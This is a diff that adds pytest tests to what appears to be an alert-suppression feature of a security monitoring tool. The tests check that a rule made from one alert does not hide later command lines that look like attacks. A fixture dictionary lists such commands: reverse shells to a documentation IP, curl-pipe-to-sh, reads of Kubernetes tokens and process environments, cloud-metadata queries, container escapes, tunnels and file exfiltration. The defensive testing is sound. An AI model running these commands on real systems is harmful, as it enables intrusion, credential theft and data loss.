@@ -137,6 +137,60 @@ ELSEWHERE: dict[str, dict[str, Any]] = {
 """The very content where nobody has judged it."""
 
 
+USES: dict[str, list[str]] = {
+    "mines": ["gdb", "-o", "stratum+tcp://pool.example:3333"],
+    "opens a shell to elsewhere": ["gdb", "-batch", "-ex", "shell bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
+    "is a busybox that calls back": ["gdb", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
+    "spawns a terminal": ["gdb", "-ex", 'python import pty; pty.spawn("/bin/sh")'],
+    "reads the pod's token": ["gdb", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
+    "reads the secrets of another process": ["gdb", "-p", "1", "-ex", "shell cat /proc/1/environ"],
+    "asks the cloud for credentials": ["gdb", "wget", "-qO-", "http://169.254.169.254/latest/meta-data/"],
+    "enters the node": ["gdb", "nsenter", "-t", "1", "-m", "sh"],
+    "calls the runtime": ["gdb", "curl", "--unix-socket", "/run/containerd/containerd.sock", "http://x/"],
+    "runs what it downloads": ["gdb", "-ex", "shell curl -s http://203.0.113.9/x | sh"],
+    "unpacks a program": ["gdb", "-ex", "shell echo f0VMRg== | base64 -d > x"],
+    "scans the network": ["gdb", "10.0.0.0/8", "-p", "1-65535", "--rate", "10000"],
+    "tunnels": ["gdb", "ssh", "-N", "-R", "2222:localhost:22", "203.0.113.9"],
+    "sends files away": ["gdb", "curl", "--upload-file", "/data.tgz", "https://transfer.sh/x"],
+    "escapes by a release agent": ["gdb", "sh", "-c", "echo /x > /sys/fs/cgroup/rdma/release_agent"],
+}
+"""The suppressed content itself, put to a use that nobody has judged."""
+
+
+@pytest.mark.parametrize("argv", USES.values(), ids=USES)
+def test_a_rule_from_an_alert_hides_no_use_of_the_file_that_looks_like_an_attack(
+    estate: Estate, saved: SuppressionRule, argv: list[str]
+) -> None:
+    ingest(estate.sensors[0], raw(tool(), tool(process__argv=argv)))
+
+    # One alert of one fingerprint: with the harmless execution too, it is not dismissed.
+    assert Alert.objects.latest("pk").status == "active"
+
+
+def test_a_dismissed_alert_counts_no_use_that_looks_like_an_attack(estate: Estate, saved: SuppressionRule) -> None:
+    ingest(estate.sensors[0], raw(tool()))
+    assert Alert.objects.latest("pk").suppressed_by == saved
+
+    ingest(estate.sensors[0], raw(tool(process__argv=USES["mines"])))
+
+    assert Alert.objects.latest("pk").status == "active"
+
+
+def test_a_rule_from_an_alert_that_looks_like_an_attack_names_its_command_line(
+    estate: Estate, operator: Any, client_of: ClientOf
+) -> None:
+    ingest(estate.sensors[0], raw(tool(process__argv=USES["tunnels"])))
+    browser = client_of(operator)
+    panel = fields_of(browser.get(URL, {"alert": Alert.objects.get().pk}, headers=HTMX).content.decode())
+    assert browser.post(URL, panel, headers=HTMX).status_code == 200
+    close_all(operator)
+
+    ingest(estate.sensors[0], raw(tool(process__argv=USES["tunnels"])))
+    assert Alert.objects.latest("pk").status == "dismissed"
+    ingest(estate.sensors[0], raw(tool(process__argv=[*USES["tunnels"], "-v"])))
+    assert Alert.objects.latest("pk").status == "active"
+
+
 @pytest.mark.parametrize("changes", LOOKALIKES.values(), ids=LOOKALIKES)
 def test_a_rule_from_an_alert_hides_nothing_that_resembles_the_file(
     estate: Estate, saved: SuppressionRule, changes: dict[str, Any], operator: Any, client_of: ClientOf
